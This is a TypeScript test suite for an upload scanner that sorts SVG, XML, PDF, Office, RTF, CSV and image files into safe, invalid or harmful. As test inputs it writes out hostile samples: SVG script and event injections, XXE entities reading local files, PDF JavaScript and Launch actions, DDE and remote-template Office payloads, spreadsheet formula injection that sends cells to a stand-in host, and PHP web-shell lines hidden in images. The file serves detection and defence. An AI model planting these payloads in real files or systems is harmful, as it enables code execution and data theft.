import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { docx, gif, jpeg, pdf, png, program, relation, stream, zip } from '../testing.ts';
import { verdict } from '../verdict.ts';
import { eicar } from './eicar.ts';

type Cases = readonly (readonly [what: string, bytes: Buffer | string, expected: string])[];

const all = (mediaType: string, cases: Cases): void => {
  for (const [what, bytes, expected] of cases)
    it(`${what}: ${expected}`, () => assert.equal(verdict({ bytes, mediaType }), expected));
};

const svg = (inner: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" ${attributes}>${inner}</svg>`;
const W3C_TYPE = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">';

describe('drawings', () => {
  all('image/svg+xml', [
    [
      'with links, styles, pictures',
      svg(
        '<style>.a{fill:url(#g)}</style><a xlink:href="https://example.com/"><path class="a"/></a><image href="data:image/png;base64,iVBORw0="/><use href="#g"/>',
      ),
      'ok',
    ],
    [
      'as old programs write it',
      `<?xml version="1.0" encoding="utf-8"?>\n<!-- made by hand: onload="x" <script> -->\n${W3C_TYPE}\n${svg('')}`,
      'ok',
    ],
    ['with text about scripts', svg('<text>&lt;script&gt; javascript:x onload=1</text><title>a</title>'), 'ok'],
    ['with a script', svg('<script>x()</script>'), 'harmful: svg-script'],
    [
      'with a script of another name',
      svg('<s:ScRiPt xmlns:s="http://www.w3.org/2000/svg" href="data:,x()"/>'),
      'harmful: svg-script',
    ],
    ['with an event', svg('<circle r="1"/>', 'onload="x()"'), 'harmful: svg-script'],
    ['with an event without quotes', svg('<circle/onfocus=x() r="1"/>'), 'harmful: svg-script'],
    ['with a link that is a script', svg('<a xlink:href="java&#x0A;script:x()"><path/></a>'), 'harmful: svg-script'],
    [
      'that animates a link',
      svg('<a><animate attributeName="href" values="javascript:x()"/></a>'),
      'harmful: svg-script',
    ],
    ['that sets an event', svg('<set attributeName="onmouseover" to="x()"/>'), 'harmful: svg-script'],
    ['with a page in it', svg('<foreignObject><div>x</div></foreignObject>'), 'invalid: svg-page'],
    [
      'with a frame in it',
      svg('<foreignObject><iframe src="https://a.example"/></foreignObject>'),
      'harmful: svg-script',
    ],
    ['that reads a file', svg('<image xlink:href="file:///etc/hostname"/>'), 'harmful: svg-external'],
    ['that asks a service of a converter', svg('<image href="msl:/tmp/x"/>'), 'harmful: svg-external'],
    ['that fetches a picture', svg('<image href="https://a.example/x.png"/>'), 'invalid: svg-external'],
    ['that fetches a style', svg('<style>@import url(https://a.example/x.css);</style>'), 'invalid: svg-external'],
    ['that uses another drawing', svg('<use href="data:image/svg+xml;base64,PHN2Zz4=#x"/>'), 'harmful: svg-script'],
    [
      'with an entity of a file',
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/hostname">]>${svg('<text>&x;</text>')}`,
      'harmful: xml-entities',
    ],
    [
      'with a parameter entity',
      `<!DOCTYPE svg [<!ENTITY % x SYSTEM "http://a.example/x.dtd"> %x;]>${svg('')}`,
      'harmful: xml-entities',
    ],
    [
      'with entities that grow',
      `<!DOCTYPE svg [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]>${svg('&b;')}`,
      'harmful: xml-entities',
    ],
    [
      'with entities that grow, from the first',
      `<!DOCTYPE svg [<!ENTITY b "&a;&a;"><!ENTITY a "ha">]>${svg('&b;')}`,
      'harmful: xml-entities',
    ],
    ['with a stylesheet', `<?xml-stylesheet type="text/xsl" href="#x"?>${svg('')}`, 'harmful: xml-stylesheet'],
    ['with code of a server', `${svg('<?php x(); ?>')}`, 'harmful: code'],
  ]);
});

describe('XML', () => {
  all('application/xml', [
    [
      'of a known type',
      '<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist/>',
      'ok',
    ],
    ['of a type kept elsewhere', '<!DOCTYPE r SYSTEM "http://a.example/r.dtd"><r/>', 'harmful: xml-doctype'],
    ['in an encoding that hides markup', '<?xml version="1.0" encoding="UTF-7"?><r/>', 'invalid: encoding'],
    [
      'with an entity of a service',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x PUBLIC "p" "http://169.254.169.254/">]><r>&x;</r>',
      'harmful: xml-entities',
    ],
  ]);
});

const SCRIPT = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';

describe('PDF', () => {
  all('application/pdf', [
    [
      'with links and a place to open at',
      pdf('<< /OpenAction [3 0 R /Fit] /AcroForm 4 0 R >>', '<< /S /URI /URI (https://example.com) >>'),
      'ok',
    ],
    ['about scripts', pdf('<< /Length 20 >>\nstream\n(/S/Launching /JS x <?php) Tj\nendstream'), 'ok'],
    [
      'with scripts of form fields',
      pdf(
        '<< /AA << /K << /S /JavaScript /JS (AFNumber_Keystroke\\(2, 0\\)) >> >> >>',
        '<< /OpenAction [1 0 R /Fit] >>',
      ),
      'ok',
    ],
    ['with a script on opening', pdf(`<< /Type /Catalog /OpenAction ${SCRIPT} >>`), 'harmful: pdf-script'],
    [
      'with a script on opening, elsewhere',
      pdf('<< /Type /Catalog /OpenAction 2 0 R >>', SCRIPT),
      'harmful: pdf-script',
    ],
    [
      'with a script by name',
      pdf('<< /Names << /JavaScript 2 0 R >> >>', `<< /Names [(x) ${SCRIPT}] >>`),
      'harmful: pdf-script',
    ],
    [
      'with a script in disguise',
      pdf('<< /Names << /J#61vaScript 2 0 R >> /OpenAction << /S /#4aavaScript /JS (x) >> >>'),
      'harmful: pdf-script',
    ],
    ['with a script on a button', pdf('<< /OpenAction [1 0 R /Fit] >>', `<< /A ${SCRIPT} >>`), 'invalid: pdf-script'],
    [
      'with a script in an object stream',
      pdf('<< /Type /Catalog /OpenAction 9 0 R >>', stream('/Type /ObjStm /N 1 /First 4', `9 0 ${SCRIPT}`)),
      'harmful: pdf-script',
    ],
    ['that starts a program', pdf('<< /S /Launch /F (cmd.exe) >>'), 'harmful: pdf-launch'],
    [
      'that starts a program, packed',
      pdf(stream('/Type/ObjStm/N 1/First 4', '9 0 << /S/Launch /Win << /F (calc) >> >>')),
      'harmful: pdf-launch',
    ],
    [
      'that asks another machine',
      pdf('<< /AA << /O << /S /GoToE /F (\\\\\\\\203.0.113.7\\\\x) /D [0 /Fit] >> >> >>'),
      'harmful: pdf-remote',
    ],
    [
      'with an invoice attached',
      pdf(
        '<< /EF << /F 2 0 R >> /F (invoice.xml) >>',
        stream('/Type /EmbeddedFile', '<?xml version="1.0"?><Invoice/>'),
      ),
      'ok',
    ],
    ['with a program attached', pdf('<< /EF << /F 2 0 R >> /F (x.dat) >>', stream('', program())), 'harmful: program'],
    ['with a program attached by name', pdf('<< /EF << /F 2 0 R >> /UF (x.exe) >>'), 'harmful: pdf-attachment'],
    [
      'with the test file attached',
      pdf('<< /EF << /F 2 0 R >> >>', stream('/Type /EmbeddedFile', eicar())),
      'harmful: malware',
    ],
    ['with a bomb', pdf(stream('/Type /ObjStm', Buffer.alloc(20_000_000))), 'harmful: archive-bomb'],
    [
      'encrypted, its objects out of sight',
      pdf('<< /Encrypt 2 0 R >>', stream('/Type /ObjStm', 'x')),
      'invalid: encrypted',
    ],
    [
      'that is a zip archive as well',
      Buffer.concat([pdf('<<>>'), zip([{ name: 'a' }], { prefix: pdf('<<>>') }).subarray(pdf('<<>>').length)]),
      'harmful: polyglot',
    ],
    ['with code behind it', Buffer.concat([pdf('<<>>'), Buffer.from('<?php x();')]), 'harmful: polyglot'],
  ]);
});

describe('office documents', () => {
  const rels = (type: string, target: string): Buffer =>
    docx({ name: 'word/_rels/settings.xml.rels', data: relation(type, target) });
  const body = (xml: string): Buffer => docx({ name: 'word/footer1.xml', data: `<w:ftr>${xml}</w:ftr>` });
  const run = (text: string): string => `<w:r><w:instrText xml:space="preserve">${text}</w:instrText></w:r>`;
  all('application/octet-stream', [
    [
      'with links and their own template',
      docx({ name: 'word/_rels/document.xml.rels', data: relation('hyperlink', 'https://example.com/') }),
      'ok',
    ],
    ['with a template of the machine', rels('attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm'), 'ok'],
    ['with fields', body(`${run(' PAGE ') + run(' DATE \\@ "d"')}<w:t>DDE is old</w:t>`), 'ok'],
    [
      'with a template from elsewhere',
      rels('attachedTemplate', 'https://a.example/x.dotm'),
      'harmful: office-external',
    ],
    [
      'with an object from elsewhere',
      rels('oleObject', 'mhtml:https://a.example/x.html!x-usc:https://a.example/x.html'),
      'harmful: office-link',
    ],
    ['with a frame from a share', rels('frame', '\\\\203.0.113.7\\x'), 'harmful: office-external'],
    ['with a link that runs', rels('hyperlink', 'ms-msdt:/id x'), 'harmful: office-link'],
    ['with macros', docx({ name: 'word/vbaProject.bin', data: 'x' }), 'harmful: macros'],
    ['with a sheet of macros', docx({ name: 'xl/macrosheets/sheet1.xml', data: '<x/>' }), 'harmful: macros'],
    [
      'with macros by type',
      zip([
        {
          name: '[Content_Types].xml',
          data: '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
        },
      ]),
      'harmful: macros',
    ],
    ['with controls', docx({ name: 'word/activeX/activeX1.bin', data: 'x' }), 'invalid: macros'],
    ['with DDE in one field', body(run(' DDEAUTO c:\\\\a.exe "x"')), 'harmful: office-dde'],
    [
      'with DDE split',
      body(`<w:fldChar w:fldCharType="begin"/>${run(' DD')}${run('EAU')}${run('TO cmd "/k x"')}`),
      'harmful: office-dde',
    ],
    ['with DDE in a simple field', body('<w:fldSimple w:instr="DDE cmd x"/>'), 'harmful: office-dde'],
    [
      'with DDE in a table',
      docx({
        name: 'xl/externalLinks/externalLink1.xml',
        data: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c x"/></externalLink>',
      }),
      'harmful: office-dde',
    ],
    [
      'with an entity in a part',
      docx({ name: 'word/x.xml', data: '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/hostname">]><r>&x;</r>' }),
      'harmful: xml-entities',
    ],
    [
      'with an entity in a part of UTF-16',
      docx({
        name: 'word/x.xml',
        data: Buffer.from('\ufeff<!DOCTYPE r [<!ENTITY x SYSTEM "file:///a">]><r/>', 'utf16le'),
      }),
      'harmful: xml-entities',
    ],
    [
      'old, with macros',
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(500),
        Buffer.from('_VBA_PROJECT', 'utf16le'),
      ]),
      'harmful: macros',
    ],
    [
      'old, without',
      Buffer.concat([
        Buffer.from('d0cf11e0a1b11ae1', 'hex'),
        Buffer.alloc(500),
        Buffer.from('WordDocument', 'utf16le'),
      ]),
      'ok',
    ],
    ['rich text', '{\\rtf1\\ansi Hello \\b world\\b0}', 'ok'],
    ['rich text with a template', '{\\rtf1{\\*\\template https://a.example/x.dotm}}', 'harmful: rtf-template'],
    [
      'rich text with an object that opens itself',
      '{\\rtf1{\\object\\objemb\\objupdate{\\*\\objdata 0105}}}',
      'harmful: rtf-object',
    ],
    ['rich text with a field', '{\\rtf1{\\field{\\*\\fldinst{ DDEAUTO cmd "/c x"}}}}', 'harmful: rtf-dde'],
    [
      'OpenDocument',
      zip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', stored: true },
        { name: 'content.xml', data: '<office:document-content><office:scripts/></office:document-content>' },
        { name: 'Basic/script-lc.xml', data: '<x/>' },
      ]),
      'ok',
    ],
    [
      'OpenDocument with macros',
      zip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', stored: true },
        { name: 'Basic/Standard/Module1.xml', data: '<script:module/>' },
      ]),
      'harmful: macros',
    ],
    [
      'OpenDocument with a macro on opening',
      zip([
        { name: 'mimetype', data: 'application/vnd.oasis.opendocument.text', stored: true },
        {
          name: 'content.xml',
          data: '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:a.py$b?language=Python"/>',
        },
      ]),
      'harmful: macros',
    ],
  ]);
});

describe('tables of text', () => {
  all('text/csv', [
    [
      'with numbers, telephones, names, sums',
      'a,-5,+49 30 1234,@handle,"=SUM(A1:B1)"\n- call (now),x|y,=HYPERLINK("https://example.com","here")\n',
      'ok',
    ],
    ['parted by bars, with quotes', "id|'name'|-5\n1|'it'|'is'!\n", 'ok'],
    ['that starts a program', "a,b\n=cmd|' /C calc'!A0,1\n", 'harmful: formula'],
    ['that starts a program, with another sign', "a;\"+msexcel|'\\..\\..\\x.exe'!''\"\n", 'harmful: formula'],
    ['that starts a program, behind a sum', "@SUM(1+1)*cmd|' /C calc'!A0\n", 'harmful: formula'],
    ['that fetches', 'a,=WEBSERVICE("https://a.example/?"&A1)\n', 'harmful: formula'],
    ['that carries cells away', '"=HYPERLINK(""https://a.example/?x=""&A1,""click"")"\n', 'harmful: formula'],
    ['that asks by DDE', '=DDE("cmd";"/C calc";"x")\n', 'harmful: formula'],
  ]);
});

describe('pictures that are something else as well', () => {
  const noise = Buffer.from(Array.from({ length: 50_000 }, (_, i) => (i * 2654435761) >>> 24));
  all('application/octet-stream', [
    ['with angle brackets', jpeg(noise, 'a < b > c <me@example.com> <3 <?xpacket begin=""?> 100 <% of'), 'ok'],
    ['with code in a comment', jpeg('', '<?php system($_GET[0]); ?>'), 'harmful: polyglot'],
    ['with code in a comment, in capitals', jpeg('', '<?PHP x'), 'harmful: polyglot'],
    ['with short code in the picture', jpeg('\x01<?=`$_GET[0]`?>\x02'), 'harmful: polyglot'],
    ['with code in a chunk of text', png('<?= system($x) ?>'), 'harmful: polyglot'],
    ['with code behind the picture', gif('<?php x(); __halt'), 'harmful: polyglot'],
    ['with nothing but the first bytes', 'GIF89a;\n<?php x();', 'harmful: polyglot'],
    ['with a page of a server', jpeg('<%@ page import="java.io" %>'), 'harmful: polyglot'],
    ['with a script for browsers', png('"><script>x()</script>'), 'harmful: polyglot'],
    ['with an archive behind it', Buffer.concat([gif(), zip([{ name: 'A.class', data: 'x' }])]), 'harmful: polyglot'],
    ['with an archive of PHP', jpeg('__HALT_COMPILER(); ?>'), 'harmful: polyglot'],
    ['with a document at the beginning', jpeg('%PDF-1.4'), 'harmful: polyglot'],
    ['that is a script by its size', `GIF89a/*${'\x01'.repeat(40)}*/=1;x()`, 'harmful: polyglot'],
    [
      'that is a script by a length',
      Buffer.concat([Buffer.from('ffd8ffe0', 'hex'), Buffer.from('/*JFIF'), noise]),
      'harmful: polyglot',
    ],
  ]);

  it('are searched in time that grows with their length only', () => {
    const time = (bytes: Buffer): number => {
      const start = performance.now();
      verdict({ bytes, mediaType: 'image/jpeg' });
      return performance.now() - start;
    };
    const worst = (length: number): Buffer => jpeg('<?= a '.repeat(length / 6));
    time(worst(60_000));
    const small = Math.min(time(worst(200_000)), time(worst(200_000)), time(worst(200_000)));
    const large = Math.min(time(worst(1_600_000)), time(worst(1_600_000)));
    assert.ok(large < 8 * 6 * small + 50, `${small} ms, ${large} ms`);
  });
});
